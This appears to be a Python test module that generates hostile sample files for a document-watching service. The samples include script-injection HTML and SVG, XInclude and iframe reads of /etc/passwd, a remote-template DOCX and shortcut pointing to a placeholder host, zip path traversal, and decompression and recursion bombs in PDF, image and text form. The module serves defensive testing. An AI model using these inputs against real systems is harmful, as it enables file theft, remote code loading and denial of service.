"""More files made to break a watch: formats that run, nest, swell or point outside."""

import io
import struct
import zipfile
from pathlib import Path

import pikepdf
from PIL import Image

from tests.watch.hostile import Write, _bytes, _deflated, _one_page, _zip_of

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def more_poisons() -> dict[str, Write]:
    """Contents by the name they are dropped under; none of them may stop or fool the watch."""
    return {
        "archive.7z": _bytes(b"7z\xbc\xaf\x27\x1c\0\x04" + b"\xff" * 500),
        "archive.rar": _bytes(b"Rar!\x1a\x07\x01\0" + b"\xff" * 500),
        "facture.pdf.exe": _bytes(b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" * 50),
        "facture.lnk": _bytes(b"L\0\0\0\x01\x14\x02\0" + bytes(8) + b"\xc0\0\0\0\0\0\0F" * 9),
        "facture.url": _bytes(b"[InternetShortcut]\nURL=file://///192.0.2.1/partage/x.exe\n"),
        "page.html": _bytes(
            b"<html><script>alert(1)</script><img src=http://192.0.2.1/x onerror=alert(2)>"
            b"<iframe src=file:///etc/passwd></iframe>Facture FC-2026-7777</html>"
        ),
        "image.svg": _bytes(
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
            b'<image href="http://192.0.2.1/x.png"/></svg>'
        ),
        "macro.docm": _docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}),
        "modele distant.docx": _docx(
            relations=f'<Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" '
            'Target="http://192.0.2.1/modele.dotm" TargetMode="External"/>'
        ),
        "gonfle.docx": _bytes_of(lambda: _zip_of(b"word/document.xml", _deflated_noughts())),
        "profond.docx": _docx(
            body="<w:tbl><w:tr><w:tc>" * 3_000 + "</w:tc></w:tr></w:tbl>" * 3_000
        ),
        "hors.docx": _docx(extra={"../../../../tmp/sorti.txt": b"dehors"}),
        "classeur.xlsx": _package({"xl/workbook.xml": b"<workbook/>"}),
        "messages.eml": _message_in_message(50),
        "cinq mille.eml": _attachments(5_000),
        "tronque.msg": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000 + _PROPERTIES),
        "inclusion.xml": _bytes(
            b'<x xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="/etc/passwd" parse="text"/></x>'
        ),
        "dtd distante.xml": _bytes(b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><x>&e;</x>'),
        "utf-7.xml": _bytes(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-+ADw-/x+AD4-'),
        "cinq mille pages.tif": _tiff_of(5_000),
        "anime.gif": _frames("GIF", 600),
        "anime.webp": _frames("WEBP", 200),
        "coupe.jpg": _cut("JPEG"),
        "coupe.png": _cut("PNG"),
        "quatre gigas.pdf": _bytes_of(_four_gigabytes),
        "un million d'objets.pdf": _bytes_of(_million_objects),
        "formulaires en rond.pdf": _bytes(_forms_in_a_ring()),
        "police qui s'appelle.pdf": _bytes(_font_of_itself()),
        "table sans fin.pdf": _bytes(_endless_map()),
        "motif en rond.pdf": _bytes(_pattern_of_itself()),
        "filtres.pdf": _bytes(
            _one_page(b"<</Filter[" + b"/ASCIIHexDecode" * 20_000 + b"]/Length %d>>stream\n", b"4>")
        ),
        "sommaire en rond.pdf": _bytes_of(_outline_ring),
        "nombres.txt": _bytes(b"FR76 " + b"1234567890 " * 200_000),
        "ligne.txt": _bytes(b"SIREN 732 829 320 du " * 100_000),
        "tirets.txt": _bytes(b"-" * 1_000_000 + b" 12,5" * 100_000),
        "arobases.txt": _bytes(b"a@" * 1_000_000),
    }


_TABLES = "<w:tbl><w:tr><w:tc>" * 3_000 + "</w:tc></w:tr></w:tbl>" * 3_000
_PROPERTIES = "__properties_version1.0".encode("utf-16-le")


def _bytes_of(make: object) -> Write:
    assert callable(make)

    def write(path: Path) -> None:
        path.write_bytes(make())

    return write


def _package(members: dict[str, bytes]) -> Write:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in members.items():
                archive.writestr(name, content)

    return write


def _docx(
    body: str = "<w:p><w:r><w:t>Facture FC-2026-7777</w:t></w:r></w:p>",
    relations: str = "",
    extra: dict[str, bytes] | None = None,
) -> Write:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    main = f'<Relationship Id="r0" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}">{main}</Relationships>',
        "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relations}'
        "</Relationships>",
    }
    return _package({name: text.encode() for name, text in parts.items()} | (extra or {}))


def _deflated_noughts() -> bytes:
    return _deflated(b"0", 2_000_000_000)[2:-4]


def _message_in_message(levels: int) -> Write:
    def write(path: Path) -> None:
        head = b"From: a@b.fr\nSubject: dans\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
        path.write_bytes(head * levels + b"From: a@b.fr\nSubject: fin\n\nAu fond.\n")

    return write


def _attachments(count: int) -> Write:
    def write(path: Path) -> None:
        head = b"From: a@b.fr\nSubject: beaucoup\nMIME-Version: 1.0\n"
        head += b"Content-Type: multipart/mixed; boundary=x\n\n"
        part = (
            b'--x\nContent-Type: text/plain\nContent-Disposition: attachment; filename="n%d.txt"\n'
        )
        parts = (part % n + b"\nNote %d\n" % n for n in range(count))
        path.write_bytes(head + b"".join(parts) + b"--x--\n")

    return write


def _tiff_of(count: int) -> Write:
    """A TIFF of so many pages of one point each (TIFF 6.0, section 2); Pillow takes a minute."""

    def write(path: Path) -> None:
        size = 2 + 8 * 12 + 4
        tags = [(256, 1), (257, 1), (258, 1), (259, 1), (262, 1), (273, 8), (278, 1), (279, 1)]
        page = struct.pack("<H", len(tags)) + b"".join(
            struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags
        )
        places = [12 + number * size for number in range(count)]
        ends = [*places[1:], 0]
        path.write_bytes(
            struct.pack("<2sHIB3x", b"II", 42, places[0], 128)
            + b"".join(page + struct.pack("<I", end) for end in ends)
        )

    return write


def _frames(kind: str, count: int) -> Write:
    def write(path: Path) -> None:
        first, *rest = [Image.new("L", (40, 40), number % 256) for number in range(count)]
        first.save(path, kind, save_all=True, append_images=rest)

    return write


def _cut(kind: str) -> Write:
    def write(path: Path) -> None:
        stream = io.BytesIO()
        Image.effect_noise((800, 1100), 90).save(stream, kind)
        path.write_bytes(stream.getvalue()[: len(stream.getvalue()) // 2])

    return write


def _four_gigabytes() -> bytes:
    return _one_page(b"<</Filter/FlateDecode/Length %d>>stream\n", _deflated(b" ", 4_200_000_000))


def _million_objects() -> bytes:
    objects = b"".join(b"%d 0 obj<</A %d 0 R>>endobj\n" % (n, n + 1) for n in range(9, 1_000_009))
    return _one_page(b"<</Length %d>>stream\n", b"q Q", more=objects)


def _forms_in_a_ring() -> bytes:
    form = (
        b"%d 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]"
        b"/Resources<</XObject<</F %d 0 R>>>>/Length 11>>stream\n/F Do /F Do\nendstream endobj\n"
    )
    ring = form % (5, 6) + form % (6, 7) + form % (7, 5)
    return _one_page(b"<</Length %d>>stream\n", b"/F Do", b"/XObject<</F 5 0 R>>", ring)


def _font_of_itself() -> bytes:
    """A Type 3 font whose one glyph is drawn with that glyph (ISO 32000-1, 9.6.5)."""
    font = (
        b"5 0 obj<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]"
        b"/FirstChar 65/LastChar 65/Widths[9]/Encoding<</Differences[65/A]>>"
        b"/CharProcs<</A 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>endobj\n"
        b"6 0 obj<</Length 48>>stream\n9 0 d0 BT /F 1 Tf (AAAAAAAA) Tj (AAAAAAAA) Tj ET  \n"
        b"endstream endobj\n"
    )
    return _one_page(b"<</Length %d>>stream\n", b"BT /F 9 Tf (A) Tj ET", b"/Font<</F 5 0 R>>", font)


def _endless_map() -> bytes:
    """A font whose table to Unicode has ranges of four thousand million codes each."""
    table = (
        b"begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n"
        + b"100 beginbfrange\n"
        + b"<00000000> <FFFFFFFF> <0041>\n" * 100
        + b"endbfrange endcmap"
    )
    font = (
        b"5 0 obj<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R"
        b"/DescendantFonts[7 0 R]>>endobj\n"
        b"6 0 obj<</Length %d>>stream\n" % len(table) + table + b"\nendstream endobj\n"
        b"7 0 obj<</Type/Font/Subtype/CIDFontType2/BaseFont/X/W[0 999999999 5]"
        b"/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>endobj\n"
    )
    return _one_page(
        b"<</Length %d>>stream\n", b"BT /F 9 Tf <0041> Tj ET", b"/Font<</F 5 0 R>>", font
    )


def _pattern_of_itself() -> bytes:
    pattern = (
        b"5 0 obj<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001"
        b"/YStep .001/Resources<</Pattern<</P 5 0 R>>/ColorSpace<</C[/Pattern]>>>>/Length 32>>"
        b"stream\n/C cs /P scn 0 0 9 9 re f 0 0 0 \nendstream endobj\n"
    )
    resources = b"/Pattern<</P 5 0 R>>/ColorSpace<</C[/Pattern]>>"
    content = b"/C cs /P scn 0 0 595 842 re f"
    return _one_page(b"<</Length %d>>stream\n", content, resources, pattern)


def _outline_ring() -> bytes:
    stream = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        one = pdf.make_indirect(pikepdf.Dictionary(Title="Un"))
        two = pdf.make_indirect(pikepdf.Dictionary(Title="Deux", Next=one, Prev=one))
        one.Next, one.Prev, one.First, one.Last = two, two, one, two
        pdf.Root.Outlines = pikepdf.Dictionary(First=one, Last=two, Count=2)
        pdf.save(stream)
    return stream.getvalue()
